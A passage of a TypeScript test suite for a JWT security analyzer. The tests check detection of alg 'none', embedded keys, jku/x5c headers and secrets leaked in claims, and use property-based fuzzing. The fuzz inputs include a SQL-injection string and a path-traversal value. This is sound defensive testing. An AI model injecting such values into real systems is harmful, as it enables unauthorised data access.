      .filter((f) => f.code === 'sensitive-claim')
      .map((f) => f.message);
    expect(messages).toHaveLength(3);
    expect(messages.join('\n')).toContain('"apps[1].client_secret"');
    expect(messages.join('\n')).toContain('"cnf.jwk" holds a private JWK (d)');
    expect(messages.join('\n')).toContain(`"['odd key'].passwd"`);
    expect(messages.join('\n')).not.toContain('s3cr3t!');
    expect(messages.join('\n')).not.toContain('private-scalar');
  });

  it('caps the number of findings and summarises the rest', () => {
    const payload: Record<string, unknown> = { ...GOOD_CLAIMS };
    for (let i = 0; i < 15; i++) payload[`password${i}`] = `pw-${i}`;
    const findings = analyze(jws(HS, payload)).filter((f) => f.code === 'sensitive-claim');
    expect(findings).toHaveLength(11);
    expect(findings[10]?.message).toMatch(/^5 more claims hold sensitive-looking values/);
  });

  it('stops at the depth cap without throwing', () => {
    let deep: unknown = { password: 'buried' };
    for (let i = 0; i < 200; i++) deep = { next: deep };
    const findings = analyze(jws(HS, { ...GOOD_CLAIMS, deep }));
    expect(codesOf(findings)).toEqual([]);
  });

  it('never echoes an arbitrary secret value', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1 }), (raw) => {
        const value = `S3cr3t-${raw}`;
        const findings = analyze(jws(HS, { ...GOOD_CLAIMS, user: { password: value } }));
        expect(only(findings, 'sensitive-claim').message).toContain('"user.password"');
        for (const f of findings) expect(f.message).not.toContain(value);
      }),
    );
  });
});

describe('analyzeToken: ordering', () => {
  it('sorts by severity, critical first, then by code', () => {
    const token = jws(
      { alg: 'none', jwk: { kty: 'oct' }, typ: 'weird', x5c: ['a'], jku: 'https://j.example' },
      { sub: 'x', password: 'p' },
      new Uint8Array(0),
    );
    expect(codesOf(analyze(token))).toEqual([
      'alg-none',
      'embedded-jwk',
      'jku-header',
      'sensitive-claim',
      'missing-exp',
      'x5c-header',
      'missing-aud',
      'missing-iss',
      'typ-unexpected',
    ]);
  });
});

describe('helpers', () => {
  it.each([
    ['4111111111111111', true],
    ['4111111111111112', false],
    ['79927398713', true],
    ['79927398710', false],
  ])('luhnValid(%s) is %s', (digits, expected) => {
    expect(luhnValid(digits)).toBe(expected);
  });

  it.each([
    ['GB82WEST12345698765432', true],
    ['DE89370400440532013000', true],
    ['GB82WEST12345698765433', false],
    ['gb82west12345698765432', false],
  ])('ibanChecksumValid(%s) is %s', (iban, expected) => {
    expect(ibanChecksumValid(iban)).toBe(expected);
  });
});

describe('analyzeToken: properties', () => {
  const headerValue = fc.oneof(
    fc.string(),
    fc.jsonValue(),
    fc.constantFrom(
      'none',
      'NONE',
      'HS256',
      'ES256',
      'ES512',
      'RS256',
      'DEF',
      'JWT',
      '../x',
      "' OR 1=1",
    ),
  );
  const header = fc.record(
    {
      alg: headerValue,
      kid: headerValue,
      typ: headerValue,
      cty: headerValue,
      crit: fc.oneof(fc.array(fc.string()), headerValue),
      zip: headerValue,
      b64: fc.oneof(fc.boolean(), headerValue),
      jwk: headerValue,
      jku: headerValue,
      x5u: headerValue,
      x5c: headerValue,
      enc: headerValue,
    },
    { requiredKeys: [] },
  );
  const extraHeader = fc.dictionary(fc.string(), fc.jsonValue());
  const jsonHeader = fc.tuple(header, extraHeader).map(([h, extra]) => ({ ...extra, ...h }));
  const claims = fc.oneof(
    fc.jsonValue(),
    fc.record(
      {
        exp: fc.oneof(fc.double(), fc.integer(), fc.jsonValue()),
        nbf: fc.oneof(fc.double(), fc.jsonValue()),
        iat: fc.oneof(fc.double(), fc.jsonValue()),
        aud: fc.jsonValue(),
        iss: fc.jsonValue(),
        password: fc.jsonValue(),
        card: fc.stringMatching(/^[2-6][\d -]{12,22}$/),
      },
      { requiredKeys: [] },
    ),
    fc.dictionary(fc.string(), fc.jsonValue()),
  );
  const context: fc.Arbitrary<AnalysisContext> = fc.record(
    {
      nowSeconds: fc.oneof(fc.constant(NOW), fc.double()),
      maxLifetimeSeconds: fc.oneof(fc.constant(DEFAULT_MAX_LIFETIME_SECONDS), fc.double()),
      key: fc.record(
        {
          kind: fc.constantFrom('secret' as const, 'public' as const),
          secretBytes: fc.oneof(fc.nat(100), fc.double()),
          rsaModulusBits: fc.oneof(fc.constantFrom(512, 1024, 2048, 4096), fc.double()),
        },
        { requiredKeys: ['kind'] },
      ),
      algConfusion: fc.boolean(),
      weakSecret: fc.option(fc.string()),
      expectedTypes: fc.array(fc.string(), { maxLength: 3 }),
    },
    { requiredKeys: ['nowSeconds', 'maxLifetimeSeconds'] },
  );
  const signature = fc.oneof(
    fc.uint8Array({ maxLength: 140 }),
    fc.constantFrom(new Uint8Array(0), new Uint8Array(64), new Uint8Array(96), new Uint8Array(132)),
  );
  const jwsToken = fc
    .tuple(jsonHeader, claims, signature)
    .map(([h, p, s]) => jws(h as Record<string, unknown>, p, s));
  const jweToken = jsonHeader.map((h) => jwe(h as Record<string, unknown>));

  function assertWellFormed(findings: readonly Finding[]): void {
    const codes: readonly string[] = FINDING_CODES;
    for (const f of findings) {
      expect(codes).toContain(f.code);
      expect(f.code).toMatch(/^[a-z0-9]+(?:-[a-z0-9]+)*$/);
      expect(SEVERITIES).toContain(f.severity);
      expect(f.message.trim()).not.toBe('');
      expect(f.reference.trim()).not.toBe('');
    }
    for (let i = 1; i < findings.length; i++) {
      const a = findings[i - 1]!;
      const b = findings[i]!;
      const rank = SEVERITIES.indexOf(a.severity) - SEVERITIES.indexOf(b.severity);
      expect(rank < 0 || (rank === 0 && a.code <= b.code)).toBe(true);
    }
  }

  it('never throws on JSON headers and payloads, and every check completes', () => {
    fc.assert(
      fc.property(fc.oneof(jwsToken, jweToken), context, (token, ctx) => {
        const findings = analyzeToken(token, ctx);
        assertWellFormed(findings);
        expect(codesOf(findings)).not.toContain('analysis-incomplete');
      }),
      { numRuns: 500 },
    );
  });

  it('never throws on arbitrary (non-JSON) values in headers and payloads', () => {
    const anything = fc.anything({
      withBigInt: true,
      withDate: true,
      withMap: true,
      withSet: true,
      withTypedArray: true,
      withSparseArray: true,
      withNullPrototype: true,
      withBoxedValues: true,
    });
    const weird = fc
      .tuple(fc.dictionary(fc.string(), anything), anything, fc.option(signature))
      .map(([h, p, s]): DecodedToken => {
        const base = jws({ alg: 'HS256' });
        return { ...base, header: h, payload: { kind: 'json', value: p, text: '' }, signature: s };
      });
    fc.assert(
      fc.property(weird, context, (token, ctx) => {
        assertWellFormed(analyzeToken(token, ctx));
      }),
      { numRuns: 300 },
    );
  });

  it('never throws on structurally broken tokens and contexts', () => {
    const broken = [null, undefined, 42, 'eyJ', {}, { kind: 'jws' }, { kind: 'jwe', header: 'x' }];
    for (const token of broken) {
      for (const ctx of [null, {}, { nowSeconds: 'now' }]) {
        const findings = analyzeToken(
          token as unknown as DecodedToken,
          ctx as unknown as AnalysisContext,
        );
        assertWellFormed(findings);
      }
    }
  });
});
